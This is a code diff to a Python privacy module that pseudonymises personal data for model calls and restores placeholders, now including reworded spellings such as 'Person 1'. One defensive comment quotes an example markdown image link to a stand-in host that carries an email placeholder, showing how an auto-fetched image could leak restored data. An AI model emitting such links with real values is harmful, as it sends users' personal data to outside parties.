@@ -4,8 +4,11 @@ A ``PseudonymSession`` maps each detected value to a surface form: ``<PERSON_1>`
 by default, or a realistic fake value (``style="fake"``). The same value always
 gets the same surface form within a session, and ``restore`` maps them back.
 
-Look-alikes: text that already contains a placeholder-shaped string (or, in fake
-mode, a surface form this session issued) has that string escaped to its own
+Models rewrite placeholders: ``<PERSON_1>`` comes back as ``PERSON_1``, ``[PERSON_1]``
+or "Person 1". Those spellings of an issued placeholder are restored too (``aliases``).
+
+Look-alikes: text that already contains a placeholder-shaped string (or a surface form
+or spelling this session issued) has that string escaped to its own
 ``<LITERAL_n>`` placeholder before it leaves. So every placeholder in an outgoing
 payload was issued by this session for a known original, and a look-alike can
 never be "restored" into someone's real data.
@@ -25,6 +28,14 @@ from tether.privacy.detect import Span
 PLACEHOLDER_SHAPE = re.compile(r"<[A-Z][A-Z0-9_]*_\d+>")
 _ZERO_WIDTH = re.compile("[\u200b\u200c\u200d\u2060\ufeff\u00ad]")
 LITERAL = "LITERAL"
+
+
+def aliases(placeholder: str) -> list[str]:
+    """How a model may write ``placeholder`` back: ``<EMAIL_ADDRESS_1>`` as ``EMAIL_ADDRESS_1``,
+    ``[EMAIL_ADDRESS_1]`` or ``Email Address 1``."""
+    core = placeholder[1:-1]
+    kind, n = core.rsplit("_", 1)
+    return [core, f"[{core}]", f"{kind.replace('_', ' ').title()} {n}"]
 # Where nothing is restored: a URL (scheme://… or //host.…) up to whitespace, and a markdown link or
 # image target "](…)". A markdown client fetches an image by itself, so a provider answering
 # ![x](http://host/p.gif?d=<EMAIL_ADDRESS_1>) would otherwise receive the address.
@@ -87,7 +98,8 @@ class PseudonymSession:
         self.style = style
         self._fake_types = set(fake_types) if fake_types is not None else None
         self._forward: dict[tuple[str, str], str] = {}
-        self._reverse: dict[str, str] = {}
+        self._reverse: dict[str, str] = {}  # each issued surface form → its original
+        self._surfaces: dict[str, str] = {}  # those and the placeholders' aliases → the original
         self._counters: Counter[str] = Counter()
         self._faker = None
         self._compiled: tuple[int, re.Pattern[str] | None] = (-1, None)
@@ -109,6 +121,7 @@ class PseudonymSession:
         """Forget every mapping (end of the session)."""
         self._forward.clear()
         self._reverse.clear()
+        self._surfaces.clear()
         self._counters.clear()
         self._compiled = (-1, None)  # keyed by mapping size, which a cleared session reaches again
         self._prefixes = (-1, frozenset(), 0)
@@ -129,6 +142,10 @@ class PseudonymSession:
             out = self._new_placeholder(entity_type, avoid)
         self._forward[key] = out
         self._reverse[out] = value
+        self._surfaces[out] = value
+        if out.startswith("<") and entity_type != LITERAL:
+            for alias in aliases(out):
+                self._surfaces.setdefault(alias, value)
         return out
 
     def _new_placeholder(self, entity_type: str, avoid: str) -> str:
@@ -137,16 +154,18 @@ class PseudonymSession:
         if self._avoiding[0] is not avoid:
             self._avoiding = (avoid, _ZERO_WIDTH.sub("", avoid).casefold() if avoid else "", {})
         _, taken, mentioned = self._avoiding
+        kind = re.escape(entity_type.casefold()).replace("_", "[_ ]")  # "person_1" or "person 1"
         if entity_type not in mentioned:  # most texts never spell "person_": then no number is taken
-            mentioned[entity_type] = f"{entity_type.casefold()}_" in taken
+            mentioned[entity_type] = re.search(rf"{kind}[_ ]", taken) is not None
         while True:
             self._counters[entity_type] += 1
             core = f"{entity_type}_{self._counters[entity_type]}"
             candidate = f"<{core}>"
             if candidate in self._reverse:
                 continue
-            if mentioned[entity_type] and re.search(rf"(?<![a-z0-9_]){re.escape(core.casefold())}(?!\d)", taken):
-                continue  # "<PERSON_1>" itself is in the text too: it folds to a mention
+            if mentioned[entity_type] and re.search(rf"(?<![a-z0-9_]){kind}[_ ]{self._counters[entity_type]}(?!\d)",
+                                                    taken):
+                continue  # "<PERSON_1>" or "Person 1" is in the text too: it folds to a mention
             return candidate
 
     def _new_fake(self, entity_type: str, value: str, avoid: str) -> str | None:
@@ -188,7 +207,7 @@ class PseudonymSession:
 
     def _lookalikes(self, text: str) -> list[tuple[int, int]]:
         found = [m.span() for m in PLACEHOLDER_SHAPE.finditer(text)]
-        if self.style == "fake" and self._reverse:
+        if self._surfaces:  # a fake value or a placeholder's spelling this session issued
             rx = self._pattern()
             if rx is not None:
                 found += [m.span() for m in rx.finditer(text)]
@@ -205,12 +224,12 @@ class PseudonymSession:
 
     def _pattern(self) -> re.Pattern[str] | None:
         version, rx = self._compiled
-        if version != len(self._reverse):
-            forms = sorted(self._reverse, key=len, reverse=True)
+        if version != len(self._surfaces):
+            forms = sorted(self._surfaces, key=len, reverse=True)
             # Fake values must stand alone: "Ann Lee" inside "Ann Leeds" is not ours.
             alts = [re.escape(f) if f.startswith("<") else rf"(?<!\w){re.escape(f)}(?!\w)" for f in forms]
             rx = re.compile("|".join(alts)) if alts else None
-            self._compiled = (len(self._reverse), rx)
+            self._compiled = (len(self._surfaces), rx)
         return rx
 
     def restore(self, text: str) -> str:
@@ -221,8 +240,8 @@ class PseudonymSession:
             return text
         urls = _url_spans(text)
         if not urls:
-            return rx.sub(lambda m: self._reverse[m.group()], text)
-        return rx.sub(lambda m: m.group() if _inside(m.start(), urls) else self._reverse[m.group()], text)
+            return rx.sub(lambda m: self._surfaces[m.group()], text)
+        return rx.sub(lambda m: m.group() if _inside(m.start(), urls) else self._surfaces[m.group()], text)
 
     def restorer(self, escape: Callable[[str], str] | None = None) -> StreamRestorer:
         """A stream restorer; ``escape`` rewrites each original as it goes back in (for JSON text:
@@ -232,13 +251,13 @@ class PseudonymSession:
     def _holdback(self, buf: str) -> int:
         """Length of the longest tail of ``buf`` that could still grow into a surface form."""
         version, prefixes, longest = self._prefixes
-        if version != len(self._reverse):
+        if version != len(self._surfaces):
             pre: set[str] = set()
-            for f in self._reverse:
+            for f in self._surfaces:
                 stop = len(f) + 1 if not f.startswith("<") else len(f)  # fakes: wait for the next char
                 pre.update(f[:i] for i in range(1, stop))
-            prefixes, longest = frozenset(pre), max((len(f) for f in self._reverse), default=0)
-            self._prefixes = (len(self._reverse), prefixes, longest)
+            prefixes, longest = frozenset(pre), max((len(f) for f in self._surfaces), default=0)
+            self._prefixes = (len(self._surfaces), prefixes, longest)
         for k in range(min(longest, len(buf)), 0, -1):
             if buf[-k:] in prefixes:
                 return k
@@ -295,7 +314,7 @@ class StreamRestorer:
                 if _inside(start, urls):
                     continue
                 out.append(buf[pos:start])
-                out.append(self._escape(self._session._reverse[m.group()]))
+                out.append(self._escape(self._session._surfaces[m.group()]))
                 pos = end
         out.append(buf[pos:cut])
         self._pending = buf[cut:]
